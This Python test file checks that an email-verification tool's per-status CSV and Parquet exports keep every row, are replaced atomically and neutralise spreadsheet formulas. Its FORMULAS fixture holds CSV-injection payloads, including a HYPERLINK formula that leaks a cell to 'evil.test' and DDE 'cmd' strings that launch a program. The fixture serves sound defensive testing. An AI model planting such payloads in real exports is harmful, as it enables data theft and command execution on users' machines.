"""``tasks.export``: one CSV per status plus results.parquet, original columns kept, no row
lost, formulas inert, the directory replaced as a whole."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess
from pathlib import Path

import polars as pl
import pytest
from ingest_fixtures import MESSY_CRM_CSV, write_bytes

from mailsift.errors import ConfigError
from tasks.export import (
    EXPORT_FILES,
    NOT_VERIFIED,
    OUTPUT_FILES,
    RESULT_COLUMNS,
    export_by_status,
)
from tasks.extract import read_sources
from tasks.normalize import dedupe, normalize

VERIFIED_AT = dt.datetime(2025, 3, 4, 5, 6, 7, 891011, tzinfo=dt.UTC)


def results_for(unique: pl.DataFrame, statuses: dict[str, tuple[str, float, str]]) -> pl.DataFrame:
    """One result row per key, shaped like the verify step's output."""
    rows = []
    for email in unique["email"].to_list():
        status, score, reason = statuses.get(email, ("valid", 0.95, "accepted"))
        rows.append(
            {
                "email": email,
                "status": status,
                "score": score,
                "reason": reason,
                "suggestion": "jane@gmail.com" if reason == "mailbox_not_found" else None,
                "verified_at": VERIFIED_AT,
            }
        )
    return pl.DataFrame(rows, schema_overrides={"verified_at": pl.Datetime("us", "UTC")})


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8-sig") as fh:
        reader = csv.DictReader(fh)
        return list(reader.fieldnames or []), list(reader)


def test_export_keeps_original_columns_and_every_row(tmp_path: Path) -> None:
    write_bytes(tmp_path / "crm.csv", MESSY_CRM_CSV)
    write_bytes(
        tmp_path / "more.csv", "Email;Company\nbob@ACME.test;Acme\nlost@nowhere.test;X\n;Nobody\n"
    )
    rows = normalize(read_sources([str(tmp_path / "crm.csv"), str(tmp_path / "more.csv")]))
    unique = dedupe(rows)
    results = results_for(
        unique,
        {
            "ann@beta.test": ("risky", 0.5, "catch_all"),
            "lost@nowhere.test": ("invalid", 0.0, "nxdomain"),
            "jane.doe@acme.test": ("unknown", 0.4, "smtp_timeout"),
        },
    )
    out = tmp_path / "out"
    paths = export_by_status(rows, results, out)

    assert set(OUTPUT_FILES) == {"valid", "risky", "invalid", "unknown", "no_email"}
    assert set(paths) == {*OUTPUT_FILES, "results"}
    assert paths["results"] == out / "results.parquet"
    originals = ["Record ID", "First Name", "Email", "Notes", "Email_2", "Company"]
    counts = {}
    for name in OUTPUT_FILES:
        path = paths[name]
        assert path == out / f"{name}.csv" and path.exists()
        header, records = read_csv(path)
        assert header == [*originals, *RESULT_COLUMNS]
        counts[name] = len(records)
    assert sum(counts.values()) == rows.height == 7
    assert counts == {"valid": 2, "risky": 1, "invalid": 1, "unknown": 1, "no_email": 2}

    _, valid = read_csv(paths["valid"])
    assert [r["Email"] for r in valid] == ["bob@acme.test", "bob@ACME.test"]  # as written
    assert [r["email_normalized"] for r in valid] == ["bob@acme.test", "bob@acme.test"]
    assert valid[0]["Record ID"] == "102" and valid[1]["Company"] == "Acme"
    assert valid[0]["status"] == "valid" and float(valid[0]["score"]) == 0.95
    assert valid[0]["verified_at"] == "2025-03-04T05:06:07Z"

    _, unknown = read_csv(paths["unknown"])
    assert unknown[0]["Notes"] == "likes ; semicolons\r\nand line breaks"  # multi-line cell intact
    assert unknown[0]["Email"] == "Jane Doe <Jane.Doe@Acme.test>"
    assert unknown[0]["email_normalized"] == "jane.doe@acme.test"  # what was verified
    assert unknown[0]["reason"] == "smtp_timeout"

    _, no_email = read_csv(paths["no_email"])
    assert [r["First Name"] or r["Company"] for r in no_email] == ["Zoë", "Nobody"]
    assert all(r["status"] == "" and r["email_normalized"] == "" for r in no_email)

    parquet = pl.read_parquet(paths["results"])
    assert parquet.columns == [*originals, *RESULT_COLUMNS]
    assert parquet.height == rows.height  # every row, in one file
    assert parquet.schema["score"] == pl.Float64
    assert parquet.schema["verified_at"] == pl.Datetime("us", "UTC")
    assert parquet.filter(pl.col("status") == "risky")["email_normalized"].to_list() == ["ann@beta.test"]


def test_result_column_names_collide_with_crm_columns(tmp_path: Path) -> None:
    path = write_bytes(tmp_path / "c.csv", "Email,Status,score\na@x.test,Customer,9\n")
    rows = normalize(read_sources([str(path)]))
    paths = export_by_status(rows, results_for(dedupe(rows), {}), tmp_path / "out")
    header, records = read_csv(paths["valid"])
    assert header == ["Email", "Status", "score", *(f"mailsift_{c}" for c in RESULT_COLUMNS)]
    assert records[0]["Status"] == "Customer" and records[0]["score"] == "9"
    assert records[0]["mailsift_status"] == "valid"


def test_empty_statuses_still_get_header_only_files(tmp_path: Path) -> None:
    rows = normalize(read_sources([str(write_bytes(tmp_path / "c.csv", "email\na@x.test\n"))]))
    paths = export_by_status(rows, results_for(dedupe(rows), {}), tmp_path / "out")
    for name in ("risky", "invalid", "unknown", "no_email"):
        header, records = read_csv(paths[name])
        assert header == ["email", *RESULT_COLUMNS] and records == []


def test_address_without_result_is_unknown_not_lost(tmp_path: Path) -> None:
    rows = normalize(
        read_sources([str(write_bytes(tmp_path / "c.csv", "email\na@x.test\nb@x.test\n"))])
    )
    results = results_for(dedupe(rows), {}).filter(pl.col("email") == "a@x.test")
    paths = export_by_status(rows, results, tmp_path / "out")
    _, unknown = read_csv(paths["unknown"])
    assert [(r["email"], r["status"], r["reason"]) for r in unknown] == [
        ("b@x.test", "unknown", NOT_VERIFIED)
    ]


def test_results_keyed_by_key_column_and_naive_timestamps(tmp_path: Path) -> None:
    rows = normalize(read_sources([str(write_bytes(tmp_path / "c.csv", "email\nJo@X.test\n"))]))
    results = pl.DataFrame(
        {
            "key": ["jo@x.test"],
            "email": ["Jo@x.test"],
            "status": ["invalid"],
            "score": [0.1],
            "reason": ["mailbox_not_found"],
            "suggestion": [None],
            "verified_at": [dt.datetime(2025, 1, 1, 12, 0, 0)],
        }
    )
    paths = export_by_status(rows, results, tmp_path / "out")
    _, invalid = read_csv(paths["invalid"])
    assert invalid[0]["verified_at"] == "2025-01-01T12:00:00Z"
    assert invalid[0]["reason"] == "mailbox_not_found"


def test_rerun_replaces_files_and_leaves_no_temp_files(tmp_path: Path) -> None:
    out = tmp_path / "out"
    rows = normalize(read_sources([str(write_bytes(tmp_path / "c.csv", "email\na@x.test\n"))]))
    unique = dedupe(rows)
    export_by_status(rows, results_for(unique, {}), out)
    paths = export_by_status(
        rows, results_for(unique, {"a@x.test": ("invalid", 0.1, "syntax")}), out
    )
    assert read_csv(paths["valid"])[1] == []
    assert len(read_csv(paths["invalid"])[1]) == 1
    assert sorted(p.name for p in out.iterdir()) == sorted(EXPORT_FILES)
    assert [p.name for p in tmp_path.iterdir() if "mailsift-" in p.name] == []  # no staging left


def test_failed_export_keeps_the_previous_exports_whole(tmp_path: Path) -> None:
    """A failure half-way through writing leaves --out as the previous run wrote it."""
    out = tmp_path / "out"
    rows = normalize(read_sources([str(write_bytes(tmp_path / "c.csv", "email\na@x.test\n"))]))
    unique = dedupe(rows)
    export_by_status(rows, results_for(unique, {}), out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    # A nested column cannot go to CSV: the writer fails after the first files are written.
    broken = rows.with_columns(pl.lit([1, 2]).alias("nested"))
    with pytest.raises(pl.exceptions.PolarsError):
        export_by_status(broken, results_for(unique, {"a@x.test": ("invalid", 0.1, "syntax")}), out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.csv", "out"]  # no staging dir


def test_out_dir_with_other_files_is_refused_untouched(tmp_path: Path) -> None:
    out = tmp_path / "reports"
    out.mkdir()
    (out / "budget.xlsx").write_bytes(b"mine")
    rows = normalize(read_sources([str(write_bytes(tmp_path / "c.csv", "email\na@x.test\n"))]))
    with pytest.raises(ConfigError, match="budget.xlsx"):
        export_by_status(rows, results_for(dedupe(rows), {}), out)
    assert [p.name for p in out.iterdir()] == ["budget.xlsx"]


def test_leftovers_of_a_killed_export_are_swept(tmp_path: Path) -> None:
    """A staging dir of a dead process is removed; a previous export left renamed aside
    (killed between the two renames, where no atomic exchange exists) goes back in place."""
    out = tmp_path / "out"
    dead_pid = 2**22 + 7  # above pid_max's default: no such process
    staging = tmp_path / f".out.mailsift-tmp-{dead_pid}-abc"
    staging.mkdir()
    (staging / "valid.csv").write_text("half")
    aside = tmp_path / f".out.mailsift-old-{dead_pid}-def"
    aside.mkdir()
    (aside / "valid.csv").write_text("previous")
    rows = normalize(read_sources([str(write_bytes(tmp_path / "c.csv", "email\na@x.test\n"))]))
    export_by_status(rows, results_for(dedupe(rows), {}), out)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["c.csv", "out"]
    assert sorted(p.name for p in out.iterdir()) == sorted(EXPORT_FILES)


def test_results_without_status_column_is_a_programming_error(tmp_path: Path) -> None:
    rows = normalize(read_sources([str(write_bytes(tmp_path / "c.csv", "email\na@x.test\n"))]))
    with pytest.raises(ValueError, match="status"):
        export_by_status(rows, pl.DataFrame({"email": ["a@x.test"]}), tmp_path / "out")
    assert not (tmp_path / "out" / "valid.csv").exists()


#: Cells a spreadsheet would run as formulas (OWASP "CSV Injection"), one per column.
FORMULAS = {
    "Name": '=HYPERLINK("http://evil.test/?leak="&A2,"Click")',
    "Company": "=cmd|' /C calc'!A0",
    "Phone": "+1-555-0100",
    "Notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Tab": "\t=1+1",
    "Cr": "\r=1+1",
    "Minus": "-2+3",
}


def test_formula_cells_are_inert_in_every_csv_and_in_the_email_column(tmp_path: Path) -> None:
    header = ["Email", *FORMULAS]
    lines = [",".join(header)]
    # the email column itself carries a formula (valid syntax for a local part) on one row
    emails = ["ok@acme.test", "=1+2@acme.test", "-x@acme.test", "@bad", ""]
    for email in emails:
        cells = [email, *FORMULAS.values()]
        lines.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    src = write_bytes(tmp_path / "c.csv", "\n".join(lines) + "\n")
    rows = normalize(read_sources([str(src)]))
    statuses = {"=1+2@acme.test": ("risky", 0.5, "catch_all"), "-x@acme.test": ("invalid", 0.1, "syntax")}
    paths = export_by_status(rows, results_for(dedupe(rows), statuses), tmp_path / "out")

    seen = 0
    for name in OUTPUT_FILES:
        head, records = read_csv(paths[name])
        assert head == [*header, *RESULT_COLUMNS]
        for record in records:
            seen += 1
            for column, formula in FORMULAS.items():
                assert record[column] == "'" + formula, (name, column)
            for column, value in record.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column, value)
    assert seen == len(emails)
    by_email = {r["Email"]: r for n in OUTPUT_FILES for r in read_csv(paths[n])[1]}
    assert by_email["'=1+2@acme.test"]["email_normalized"] == "'=1+2@acme.test"
    assert by_email["'-x@acme.test"]["status"] == "invalid"
    # the Parquet file is for data tools: values as they were
    parquet = pl.read_parquet(paths["results"])
    assert parquet["Company"].to_list() == [FORMULAS["Company"]] * len(emails)
    assert "=1+2@acme.test" in parquet["email_normalized"].to_list()


def test_bom_when_asked_or_when_the_source_had_one(tmp_path: Path) -> None:
    plain = write_bytes(tmp_path / "plain.csv", "email,name\na@x.test,José Müller\n")
    rows = normalize(read_sources([str(plain)]))
    results = results_for(dedupe(rows), {})
    without = export_by_status(rows, results, tmp_path / "o1")
    assert not without["valid"].read_bytes().startswith(b"\xef\xbb\xbf")
    excel = export_by_status(rows, results, tmp_path / "o2", excel=True)
    assert excel["valid"].read_bytes().startswith(b"\xef\xbb\xbf")
    assert read_csv(excel["valid"])[1][0]["name"] == "José Müller"

    bommed = write_bytes(tmp_path / "bom.csv", "\ufeffemail,name\na@x.test,Zoë\n")
    rows = normalize(read_sources([str(bommed)]))
    paths = export_by_status(rows, results_for(dedupe(rows), {}), tmp_path / "o3")
    for name in OUTPUT_FILES:
        data = paths[name].read_bytes()
        assert data.startswith(b"\xef\xbb\xbf") and not data[3:].startswith(b"\xef\xbb\xbf")
    assert read_csv(paths["valid"])[0][0] == "email"


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice is absent (.ci/run installs Debian's libreoffice-calc-nogui)",
)
def test_exports_open_in_libreoffice_with_names_intact_and_no_formula(tmp_path: Path) -> None:
    """LibreOffice Calc imports every CSV: accented names come through, and no cell is a
    formula (a raw ``=1+1`` would be: LibreOffice evaluates formulas on CSV import).

    LibreOffice headless takes the character set from the filter options (76 = UTF-8),
    as a user picks it in the import dialog; the BOM is there for Excel."""
    import openpyxl

    names = ["José Müller", "Zoë Ærøskøbing", "Łukasz Żółć", "Ñandú Ça"]
    lines = ["Email,Name," + ",".join(FORMULAS)]
    for i, name in enumerate(names):
        cells = [f"p{i}@acme.test", name, *FORMULAS.values()]
        lines.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    lines.append('"=2+2",' + ",".join('"' + c.replace('"', '""') + '"' for c in ["Anaïs", *FORMULAS.values()]))
    src = write_bytes(tmp_path / "c.csv", "\n".join(lines) + "\n")
    rows = normalize(read_sources([str(src)]))
    statuses = {"p1@acme.test": ("risky", 0.5, "catch_all"), "=2+2": ("invalid", 0.0, "syntax")}
    paths = export_by_status(rows, results_for(dedupe(rows), statuses), tmp_path / "out", excel=True)

    converted = tmp_path / "xlsx"
    csvs = [str(paths[name]) for name in OUTPUT_FILES]
    proc = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
         "--norestore", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir",
         str(converted), *csvs],
        capture_output=True, text=True, timeout=180,
    )
    assert proc.returncode == 0, proc.stderr
    seen_names = []
    for name in OUTPUT_FILES:
        sheet = openpyxl.load_workbook(converted / f"{name}.xlsx").active
        header = [c.value for c in sheet[1]]
        assert header[:2] == ["Email", "Name"] and "email_normalized" in header
        for row in sheet.iter_rows(min_row=2):
            assert all(cell.data_type != "f" for cell in row), [c.value for c in row]
            seen_names.append(row[1].value)
            assert row[header.index("Company")].value == "'" + FORMULAS["Company"]
    assert sorted(seen_names) == sorted([*names, "Anaïs"])


def test_rows_streamed_from_parquet_in_batches_give_the_same_exports(tmp_path: Path) -> None:
    """A large list is exported from the run's Parquet file a batch at a time: the files
    are byte for byte those of the list exported at once (one header, one BOM, every row
    in input order, formulas inert)."""
    write_bytes(tmp_path / "crm.csv", MESSY_CRM_CSV)  # starts with a BOM
    write_bytes(tmp_path / "more.csv", "Email;Company\n=1+2@acme.test;=HYPERLINK(\"x\")\nbob@ACME.test;Acme\n;Nobody\n")
    rows = normalize(read_sources([str(tmp_path / "crm.csv"), str(tmp_path / "more.csv")]))
    rows.write_parquet(tmp_path / "rows.parquet")
    results = results_for(dedupe(rows), {"ann@beta.test": ("risky", 0.5, "catch_all")})

    whole = export_by_status(rows, results, tmp_path / "whole")
    batched = export_by_status(tmp_path / "rows.parquet", results, tmp_path / "batched", batch_rows=2)

    for name in OUTPUT_FILES:
        data = batched[name].read_bytes()
        assert data == whole[name].read_bytes(), name
        assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    assert sum(len(read_csv(batched[n])[1]) for n in OUTPUT_FILES) == rows.height
    assert [r["Company"] for r in read_csv(batched["valid"])[1] if r["Company"]] == ["'=HYPERLINK(\"x\")", "Acme"]
    assert pl.read_parquet(batched["results"]).equals(pl.read_parquet(whole["results"]))
